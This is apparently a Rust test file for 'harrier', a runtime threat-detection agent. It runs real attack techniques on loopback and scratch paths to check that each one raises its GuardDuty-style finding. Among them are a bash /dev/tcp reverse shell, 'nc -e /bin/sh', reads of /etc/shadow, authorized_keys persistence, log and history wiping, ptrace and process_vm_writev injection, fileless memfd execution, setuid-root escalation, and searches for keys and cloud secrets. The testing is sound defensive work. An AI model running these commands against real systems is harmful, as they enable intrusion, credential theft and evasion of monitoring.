//! The default pack on the real kernel: one agent, many real behaviours
//! (run as root, on loopback and temporary paths only), each of which must
//! come out as its GuardDuty-style finding naming the right process.

use std::io::Write;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::Receiver;
use std::time::{Duration, Instant};

use harrier_tests::{harrier_bin, lines, privileged};
use serde_json::Value;

/// Threat-intelligence types, against a stub resolver of the test's own.
mod live_intel;

/// The agent under test: `harrier run` with the embedded default pack (and
/// any extra plugin directory), stopped when dropped even if an assertion
/// failed first.
struct Agent {
    child: Child,
    stdout: Receiver<String>,
    socket: PathBuf,
}

impl Agent {
    /// Starts the agent and waits (60 s at most) until it says it is ready.
    fn start(socket: &Path, config: &Path, plugins: Option<&Path>) -> Agent {
        let mut command = Command::new(harrier_bin());
        command.args([
            "run",
            "--admin-socket",
            socket.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
        ]);
        if let Some(dir) = plugins {
            command.arg("--plugins").arg(dir);
        }
        let mut child = command
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start harrier");
        let stdout = lines(child.stdout.take().unwrap());
        let stderr = lines(child.stderr.take().unwrap());
        let agent = Agent {
            child,
            stdout,
            socket: socket.to_path_buf(),
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let left = deadline
                .checked_duration_since(Instant::now())
                .expect("agent not ready within 60 s");
            let line = stderr
                .recv_timeout(left)
                .expect("agent exited before ready");
            if line.contains("ready") {
                break;
            }
        }
        // Warnings (dropped events, lagging detectors) and the final
        // counters explain a missing finding.
        std::thread::spawn(move || {
            while let Ok(line) = stderr.recv() {
                if line.contains(" WARN ") || line.contains(" ERROR ") || line.contains("stopped") {
                    eprintln!("agent: {line}");
                }
            }
        });
        agent
    }

    /// The findings printed until `complete` says they are all there (or
    /// 45 s have passed: a loaded machine delays the agent, and the caller's
    /// assertion then names what is missing), then the agent stopped with
    /// SIGINT: it must exit successfully.
    fn collect(mut self, complete: impl Fn(&[Value]) -> bool) -> Vec<Value> {
        let deadline = Instant::now() + Duration::from_secs(45);
        let mut findings: Vec<Value> = Vec::new();
        while let Some(left) = deadline.checked_duration_since(Instant::now()) {
            if let Ok(line) = self.stdout.recv_timeout(left) {
                findings.push(serde_json::from_str(&line).unwrap());
                if complete(&findings) {
                    break;
                }
            }
        }
        self.print_losses();
        // SAFETY: kill on our own child's pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
        assert!(self.child.wait().unwrap().success(), "agent exit status");
        findings
    }
}

impl Agent {
    /// Prints the agent's non-zero loss counters (events dropped by the
    /// sensor or the pipeline), which explain a missing finding.
    fn print_losses(&self) {
        use std::io::Read;
        let Ok(mut stream) = std::os::unix::net::UnixStream::connect(&self.socket) else {
            eprintln!("agent: admin socket {} unreachable", self.socket.display());
            return;
        };
        let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
        let _ = stream.write_all(b"GET /metrics HTTP/1.1\r\nHost: harrier\r\n\r\n");
        let mut text = String::new();
        let _ = stream.read_to_string(&mut text);
        for line in text.lines() {
            let lossy = line.contains("drop") || line.contains("lost");
            if lossy && !line.starts_with('#') && !line.ends_with(" 0") {
                eprintln!("agent: {line}");
            }
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// The expected (type, pid) pairs with no finding (pid 0: any process),
/// followed by every finding seen, for the assertion message.
fn missing(findings: &[Value], expected: &[(&str, u32)]) -> (Vec<String>, String) {
    let missing = expected
        .iter()
        .filter(|(kind, pid)| {
            !findings
                .iter()
                .any(|f| f["type"] == *kind && (*pid == 0 || f["process"]["pid"] == *pid))
        })
        .map(|(kind, pid)| format!("{kind} (pid {pid})"))
        .collect();
    let seen: Vec<String> = findings
        .iter()
        .map(|f| {
            format!(
                "{} pid {} {} {} container {}",
                f["type"], f["process"]["pid"], f["process"]["exe"], f["detectors"], f["container"]
            )
        })
        .collect();
    (missing, seen.join("\n"))
}

/// Runs `command` to completion, killing it after `limit`; returns its pid.
fn run_bounded(command: &mut Command, limit: Duration) -> u32 {
    let mut child = command.spawn().unwrap();
    let pid = child.id();
    let deadline = Instant::now() + limit;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    pid
}

fn sh(script: &str) -> u32 {
    let mut child = Command::new("/bin/sh")
        .args(["-c", script])
        .spawn()
        .unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn python(code: &str) -> u32 {
    let mut child = Command::new("python3").args(["-c", code]).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn run(path: &Path, args: &[&str]) -> u32 {
    let mut child = Command::new(path).args(args).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

/// A DNS query for `name` sent to a loopback port 53 (nothing listens).
fn dns_query(name: &str) -> u32 {
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(label.len() as u8);
        packet.extend_from_slice(label.as_bytes());
    }
    packet.extend_from_slice(&[0, 0, 1, 0, 1]);
    let code = format!(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes({packet:?}), ('127.0.0.1', 53))"
    );
    python(&code)
}

#[test]
fn real_behaviours_raise_their_findings() {
    if !privileged("real_behaviours_raise_their_findings") {
        return;
    }
    // On the root file system (not a tmpfs), so a hard link to /etc works.
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    // A binary the operator declared malicious by its SHA-256.
    let malware = dir.join("implant");
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.extend_from_slice(format!("harrier-test-{}", std::process::id()).as_bytes());
    std::fs::write(&malware, &bytes).unwrap();
    std::fs::set_permissions(
        &malware,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&bytes))
    };
    let config = dir.join("harrier.toml");
    // A container runtime socket of our own, declared next to the defaults.
    let runtime_socket = dir.join("docker.sock");
    std::fs::write(
        &config,
        format!(
            "[plugins.config.execution]\nextra_sha256 = [\"{sha}\"]\n\
             [plugins.config.privilege-escalation]\nruntime_sockets = [\"/var/run/docker.sock\", \"/run/docker.sock\", \"{}\"]\n",
            runtime_socket.display()
        ),
    )
    .unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, None);
    let mut expected: Vec<(&str, u32)> = Vec::new();
    expected.push((
        "Execution:Runtime/MaliciousFileExecuted",
        run(&malware, &[]),
    ));

    // Execution: a tool by name, a program under /dev/shm, a shell from a web server.
    let nmap = dir.join("nmap");
    std::fs::copy("/bin/true", &nmap).unwrap();
    // Copied a moment ago by this test, so also a new binary.
    let nmap_pid = run(&nmap, &["-sS", "127.0.0.1"]);
    expected.push(("Execution:Runtime/SuspiciousTool", nmap_pid));
    expected.push(("Execution:Runtime/NewBinaryExecuted", nmap_pid));
    let xmrig = dir.join("xmrig");
    std::fs::copy("/bin/true", &xmrig).unwrap();
    expected.push((
        "Impact:Runtime/CryptoMinerExecuted",
        run(&xmrig, &["-o", "stratum+tcp://127.0.0.1:3333"]),
    ));
    let shm = std::path::PathBuf::from(format!("/dev/shm/harrier-test-{}", std::process::id()));
    std::fs::copy("/bin/true", &shm).unwrap();
    expected.push(("Execution:Runtime/ExecutionFromDevShm", run(&shm, &[])));
    let _ = std::fs::remove_file(&shm);
    let nginx = dir.join("nginx");
    std::fs::copy("/bin/bash", &nginx).unwrap();
    let mut web = Command::new(&nginx)
        .args(["-c", "/bin/sh -c true; sleep 0.2"])
        .spawn()
        .unwrap();
    web.wait().unwrap();
    expected.push(("Execution:Runtime/SuspiciousShellCreated", 0));

    // A reverse shell to a loopback listener that hangs up at once.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"exit\n");
        }
    });
    let reverse = sh(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null"
    ));
    expected.push(("Execution:Runtime/ReverseShell", 0));
    let _ = reverse;

    // Commands of discovery, persistence and defense evasion.
    let suid_dir = dir.join("find-here");
    std::fs::create_dir(&suid_dir).unwrap();
    let find = Command::new("find")
        .arg(&suid_dir)
        .args(["-perm", "-4000"])
        .status();
    assert!(find.unwrap().success());
    expected.push(("Discovery:Runtime/SuspiciousCommand", 0));
    let ssh = dir.join(".ssh");
    std::fs::create_dir(&ssh).unwrap();
    expected.push((
        "Persistence:Runtime/SuspiciousCommand",
        sh(&format!(
            "echo 'ssh-ed25519 AAAA test' >> {}/authorized_keys",
            ssh.display()
        )),
    ));
    let stamp = dir.join("stamped");
    std::fs::write(&stamp, b"x").unwrap();
    let touch = Command::new("touch")
        .args(["-r", "/bin/ls"])
        .arg(&stamp)
        .status()
        .unwrap();
    assert!(touch.success());
    expected.push(("DefenseEvasion:Runtime/SuspiciousCommand", 0));

    // Files: credentials, symlinks over them, logs, bulk removal.
    expected.push((
        "CredentialAccess:Runtime/SensitiveFileRead",
        python("open('/etc/shadow').read()"),
    ));
    let link = dir.join("shadow-link");
    let ln = Command::new("ln")
        .arg("-s")
        .arg("/etc/shadow")
        .arg(&link)
        .status()
        .unwrap();
    assert!(ln.success());
    expected.push(("CredentialAccess:Runtime/SymlinkOverSensitiveFile", 0));
    let log = std::path::PathBuf::from(format!("/var/log/harrier-test-{}.log", std::process::id()));
    std::fs::write(&log, b"line\n").unwrap();
    let truncate = Command::new("truncate")
        .args(["-s", "0"])
        .arg(&log)
        .status()
        .unwrap();
    assert!(truncate.success());
    let _ = std::fs::remove_file(&log);
    expected.push(("DefenseEvasion:Runtime/LogFileCleared", 0));
    let hard = dir.join("shadow-hardlink");
    assert!(
        Command::new("ln")
            .arg("/etc/shadow")
            .arg(&hard)
            .status()
            .unwrap()
            .success()
    );
    expected.push(("CredentialAccess:Runtime/HardlinkOverSensitiveFile", 0));
    let history = dir.join(".bash_history");
    std::fs::write(&history, b"ls\n").unwrap();
    assert!(
        Command::new("truncate")
            .args(["-s", "0"])
            .arg(&history)
            .status()
            .unwrap()
            .success()
    );
    expected.push(("DefenseEvasion:Runtime/ShellHistoryCleared", 0));
    let keys = Command::new("grep")
        .args(["-r", "-l", "BEGIN RSA PRIVATE KEY"])
        .arg(&suid_dir)
        .status();
    let _ = keys.unwrap();
    expected.push(("CredentialAccess:Runtime/PrivateKeySearch", 0));
    let doomed = dir.join("doomed");
    std::fs::write(&doomed, vec![b'x'; 4096]).unwrap();
    let shred = Command::new("shred")
        .arg("-u")
        .arg(&doomed)
        .status()
        .unwrap();
    assert!(shred.success());
    expected.push(("Impact:Runtime/BulkDataRemoval", 0));

    // A kernel module load: this kernel has no module support (ENOSYS),
    // so only the attempt happens, and KernelModuleLoaded is for loads
    // that succeed: the failed attempt must stay quiet (checked once the
    // same detector's later findings are out).
    let module_attempt = python(
        "import ctypes, os; fd = os.open('/bin/true', os.O_RDONLY); ctypes.CDLL(None).syscall(313, fd, b'', 0)",
    );

    // Privilege escalation and injection.
    let agent_file = dir.join("release_agent");
    expected.push((
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        sh(&format!("echo /tmp/payload > {}", agent_file.display())),
    ));
    expected.push((
        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        python("import ctypes; ctypes.CDLL(None, use_errno=True).syscall(323, 0)"),
    ));
    expected.push((
        "DefenseEvasion:Runtime/PtraceAntiDebugging",
        python("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)"),
    ));
    // Injection into a sleeping victim: a ptrace poke and a
    // process_vm_writev, each writing back the word it just read from a
    // writable mapping (so the victim is unchanged), and a write through
    // /proc/<pid>/mem.
    let mut victim = Command::new("sleep").arg("10").spawn().unwrap();
    let target = victim.id();
    std::thread::sleep(Duration::from_millis(100));
    let writable = format!(
        "addr = next(int(l.split('-')[0], 16) for l in open('/proc/{target}/maps') if l.split()[1].startswith('rw'))\n"
    );
    let poke = format!(
        "import ctypes, os\n{writable}libc = ctypes.CDLL(None); libc.ptrace.restype = ctypes.c_long\nlibc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\nlibc.ptrace(16, {target}, None, None); os.waitpid({target}, 0)\nword = libc.ptrace(2, {target}, addr, None)\nlibc.ptrace(5, {target}, addr, ctypes.c_void_p(word & 0xffffffffffffffff))\nlibc.ptrace(17, {target}, None, None)"
    );
    // The poke needs an attach first.
    let poke_pid = python(&poke);
    expected.push(("DefenseEvasion:Runtime/ProcessInjection.Ptrace", poke_pid));
    expected.push(("DefenseEvasion:Runtime/PtraceAttached", poke_pid));
    let vm_write = format!(
        "import ctypes\n{writable}class Iov(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\nbuf = ctypes.create_string_buffer(8)\nlocal = Iov(ctypes.cast(buf, ctypes.c_void_p), 8); remote = Iov(addr, 8)\nlibc = ctypes.CDLL(None)\nlibc.process_vm_readv({target}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\nassert libc.process_vm_writev({target}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        python(&vm_write),
    ));
    let proc_mem = format!(
        "f = open('/proc/{target}/mem', 'wb', buffering=0)\ntry: f.write(b'x')\nexcept OSError: pass"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        python(&proc_mem),
    ));
    let _ = victim.kill();
    let _ = victim.wait();
    expected.push((
        "DefenseEvasion:Runtime/FilelessExecution",
        python(
            "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x'])",
        ),
    ));

    // A library written a moment ago, then loaded.
    let lib = dir.join("libfresh.so");
    std::fs::copy("/usr/lib/x86_64-linux-gnu/libz.so.1", &lib).unwrap();
    expected.push((
        "Execution:Runtime/NewLibraryLoaded",
        python(&format!("import ctypes; ctypes.CDLL('{}')", lib.display())),
    ));
    // A raw packet socket.
    expected.push((
        "CredentialAccess:Runtime/PacketSocketCreated",
        python("import socket; socket.socket(17, socket.SOCK_RAW, 0).close()"),
    ));
    // A system user's interactive shell.
    let daemon_shell = Command::new("setpriv")
        .args(["--reuid=1", "--regid=1", "--clear-groups", "bash", "-i"])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .status();
    let _ = daemon_shell.unwrap();
    expected.push(("Execution:Runtime/SystemUserInteractiveShell", 0));

    // DNS: a mining pool and GuardDuty's C&C test domain.
    expected.push((
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        dns_query("pool.minexmr.com"),
    ));
    expected.push((
        "Backdoor:Runtime/C&CActivity.B!DNS",
        dns_query("guarddutyc2activityb.com"),
    ));

    // Container escapes from the host side: a client of the runtime socket,
    // a write-open of a runc binary, a setuid-root program that becomes root
    // for a non-root user.
    let _docker = UnixListener::bind(&runtime_socket).unwrap();
    // A python socket one-liner, also a suspicious command.
    let docker_client = python(&format!(
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.close()",
        runtime_socket.display()
    ));
    expected.push((
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        docker_client,
    ));
    expected.push(("Execution:Runtime/SuspiciousCommand", docker_client));
    expected.push((
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        python(&format!(
            "open('{}', 'wb').write(b'#!/bin/sh')",
            dir.join("runc").display()
        )),
    ));
    let suid_python = dir.join("rootshell");
    std::fs::copy(
        std::fs::canonicalize("/usr/bin/python3").unwrap(),
        &suid_python,
    )
    .unwrap();
    std::fs::set_permissions(
        &suid_python,
        std::os::unix::fs::PermissionsExt::from_mode(0o4755),
    )
    .unwrap();
    std::fs::set_permissions(dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut became_root = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid_python)
        .args(["-c", "import os; os.setuid(0); assert os.getuid() == 0"])
        .spawn()
        .unwrap();
    let elevated = became_root.id();
    assert!(
        became_root.wait().unwrap().success(),
        "the setuid-root copy of python became root"
    );
    expected.push(("PrivilegeEscalation:Runtime/ElevationToRoot", elevated));

    // A search for cloud credentials.
    let _ = Command::new("grep")
        .args(["-r", "-l", "aws_secret_access_key"])
        .arg(&suid_dir)
        .status()
        .unwrap();
    expected.push(("CredentialAccess:Runtime/CloudCredentialSearch", 0));

    // netcat handing a shell to a loopback peer, which tells it to exit.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"exit\n");
        }
    });
    expected.push((
        "Execution:Runtime/NetcatRemoteCodeExecution",
        run_bounded(
            Command::new("nc.traditional")
                .args(["-w", "5", "-e", "/bin/sh", "127.0.0.1", &port.to_string()])
                .stdin(Stdio::null()),
            Duration::from_secs(10),
        ),
    ));

    // An SSH client to a loopback port other than 22 (the peer hangs up
    // after a banner, so ssh gives up at once).
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"SSH-2.0-harrier-test\r\n");
        }
    });
    expected.push((
        "UnauthorizedAccess:Runtime/SshNonStandardPort",
        run_bounded(
            Command::new("ssh")
                .args([
                    "-p",
                    &port.to_string(),
                    "-o",
                    "BatchMode=yes",
                    "-o",
                    "StrictHostKeyChecking=no",
                    "-o",
                    "UserKnownHostsFile=/dev/null",
                    "-o",
                    "ConnectTimeout=5",
                    "harrier@127.0.0.1",
                    "true",
                ])
                .stdin(Stdio::null())
                .stderr(Stdio::null()),
            Duration::from_secs(10),
        ),
    ));

    // Collect until every expectation is met, then check them all.
    let findings = agent.collect(|f| missing(f, &expected).0.is_empty());
    let (mut missing, seen) = missing(&findings, &expected);
    if findings.iter().any(|f| {
        f["type"] == "DefenseEvasion:Runtime/KernelModuleLoaded"
            && f["process"]["pid"] == module_attempt
    }) {
        missing.push(format!(
            "no KernelModuleLoaded for the failed attempt of pid {module_attempt}"
        ));
    }
    assert!(
        missing.is_empty(),
        "missing findings: {missing:#?}\nseen:\n{seen}"
    );
}

/// A Kubernetes-style cgroup (v2, cgroupfs layout `kubepods/burstable/pod<uid>/<id>`)
/// that processes enter to look like a container to the enricher; removed
/// when dropped.
struct FakeContainer {
    id: String,
    dirs: Vec<PathBuf>,
    leaf: PathBuf,
}

impl FakeContainer {
    /// Creates the cgroup directories under the unified hierarchy.
    fn create(label: &str) -> FakeContainer {
        use sha2::Digest;
        let seed = format!(
            "{label}-{}-{:?}",
            std::process::id(),
            std::time::SystemTime::now()
        );
        let id = hex::encode(sha2::Sha256::digest(seed.as_bytes()));
        let u = &hex::encode(sha2::Sha256::digest(id.as_bytes()))[..32];
        let pod = format!(
            "{}-{}-{}-{}-{}",
            &u[..8],
            &u[8..12],
            &u[12..16],
            &u[16..20],
            &u[20..]
        );
        let hierarchy = Path::new("/sys/fs/cgroup/unified");
        assert!(
            hierarchy.join("cgroup.procs").exists(),
            "{} is not a mounted cgroup v2 hierarchy",
            hierarchy.display()
        );
        let relative = format!(
            "harrier-test-{label}-{}/kubepods/burstable/pod{pod}/{id}",
            std::process::id()
        );
        let mut container = FakeContainer {
            id,
            dirs: Vec::new(),
            leaf: hierarchy.to_path_buf(),
        };
        for part in relative.split('/') {
            container.leaf.push(part);
            std::fs::create_dir(&container.leaf).unwrap_or_else(|e| {
                panic!("cannot create cgroup {}: {e}", container.leaf.display())
            });
            container.dirs.push(container.leaf.clone());
        }
        container
    }

    /// Runs `commands` (name, shell command) in the container and returns
    /// the pid of each, in order. Like a container's main process, a shell
    /// enters the cgroup, execs a script (the exec makes the enricher read
    /// the new cgroup) and waits a second before it forks the commands. Each
    /// command gets a pipe that stays open for two seconds as its standard
    /// input, so a command reading it is still alive when the enricher reads
    /// its cgroup (a process already gone keeps only what it inherited, and
    /// its fork may be reported after its exec).
    fn run(&self, scratch: &Path, commands: &[(&str, &str)]) -> Vec<(String, u32)> {
        let mut script = String::from("sleep 1\n");
        for (name, command) in commands {
            let pid_file = scratch.join(format!("{name}.pid"));
            script.push_str(&format!(
                "sleep 2 | /bin/sh -c 'echo $$ > {}; exec {command}' >/dev/null 2>&1 &\n",
                pid_file.display()
            ));
        }
        script.push_str("wait\n");
        let script_file = scratch.join("container.sh");
        std::fs::write(&script_file, script).unwrap();
        let main = format!(
            "echo $$ > {}/cgroup.procs && exec /bin/sh {}",
            self.leaf.display(),
            script_file.display()
        );
        run_bounded(
            Command::new("/bin/sh").args(["-c", &main]),
            Duration::from_secs(20),
        );
        commands
            .iter()
            .map(|(name, _)| {
                let pid_file = scratch.join(format!("{name}.pid"));
                let pid = std::fs::read_to_string(&pid_file)
                    .unwrap_or_else(|e| panic!("{}: {e}", pid_file.display()));
                (name.to_string(), pid.trim().parse().unwrap())
            })
            .collect()
    }
}

impl Drop for FakeContainer {
    fn drop(&mut self) {
        for dir in self.dirs.iter().rev() {
            // Processes that just exited may take a moment to leave.
            for _ in 0..100 {
                if std::fs::remove_dir(dir).is_ok() || !dir.exists() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

#[test]
fn container_behaviours_and_guest_detectors_raise_their_findings() {
    if !privileged("container_behaviours_and_guest_detectors_raise_their_findings") {
        return;
    }
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    // The Python and JavaScript detectors, loaded from a directory.
    let plugins = dir.join("plugins");
    std::fs::create_dir(&plugins).unwrap();
    let guests = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/guests");
    for guest in ["persistence-py.wasm", "discovery-js.wasm"] {
        std::fs::copy(guests.join(guest), plugins.join(guest)).unwrap_or_else(|e| {
            panic!(
                "{}: {e} (build it with scripts/build-guests.sh)",
                guests.join(guest).display()
            )
        });
    }
    let config = dir.join("harrier.toml");
    std::fs::write(&config, "").unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, Some(&plugins));
    let container = FakeContainer::create("detections");
    // In the container: a bind mount of the host's /etc, in a private
    // mount namespace so nothing reaches the host's mount table; debugfs on
    // a scratch file; the service-account token read (the JavaScript
    // detector).
    let target = dir.join("host-etc");
    std::fs::create_dir(&target).unwrap();
    let image = dir.join("disk.img");
    std::fs::write(&image, vec![0u8; 4096]).unwrap();
    // mount(2) from python, which then lingers like the other commands.
    let mount_code = dir.join("mount.py");
    std::fs::write(
        &mount_code,
        format!(
            "import ctypes, time\nassert ctypes.CDLL(None).mount(b'/etc', b'{}', None, 4096, None) == 0\ntime.sleep(2)\n",
            target.display()
        ),
    )
    .unwrap();
    let mount = format!(
        "unshare -m --propagation private python3 {}",
        mount_code.display()
    );
    // Interactive debugfs and cat read their standard input until it closes.
    let debugfs = format!("debugfs {}", image.display());
    let pids = container.run(
        dir,
        &[
            ("mount", &mount),
            ("debugfs", &debugfs),
            (
                "token",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token -",
            ),
        ],
    );
    let mut expected: Vec<(&str, u32)> = vec![
        (
            "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
            pids[0].1,
        ),
        (
            "PrivilegeEscalation:Runtime/DebugfsLaunchedInContainer",
            pids[1].1,
        ),
    ];
    let token_read = pids[2].1;
    // A systemd user unit written (the Python detector).
    let units = dir.join("home/.config/systemd/user");
    std::fs::create_dir_all(&units).unwrap();
    let unit_write = python(&format!(
        "open('{}', 'w').write('[Service]\\nExecStart=/bin/true\\n')",
        units.join("harrier-test.service").display()
    ));
    expected.push(("Discovery:Runtime/SuspiciousCommand", token_read));
    expected.push(("Persistence:Runtime/SuspiciousCommand", unit_write));

    // Container findings name the container; the guest findings name the
    // guest detector.
    let check = |findings: &[Value]| {
        let mut absent = missing(findings, &expected).0;
        let wanted = [
            (expected[0], "container", container.id.as_str()),
            (expected[1], "container", container.id.as_str()),
            (expected[2], "detectors", "discovery-js"),
            (expected[3], "detectors", "persistence-py"),
        ];
        for ((kind, pid), field, needle) in wanted {
            if !findings.iter().any(|f| {
                f["type"] == kind
                    && f["process"]["pid"] == pid
                    && f[field].to_string().contains(needle)
            }) {
                absent.push(format!("{kind} (pid {pid}) with {field} {needle}"));
            }
        }
        absent
    };
    let findings = agent.collect(|f| check(f).is_empty());
    let missing = check(&findings);
    let seen = self::missing(&findings, &[]).1;
    assert!(
        missing.is_empty(),
        "missing findings: {missing:#?}\nseen:\n{seen}"
    );
}
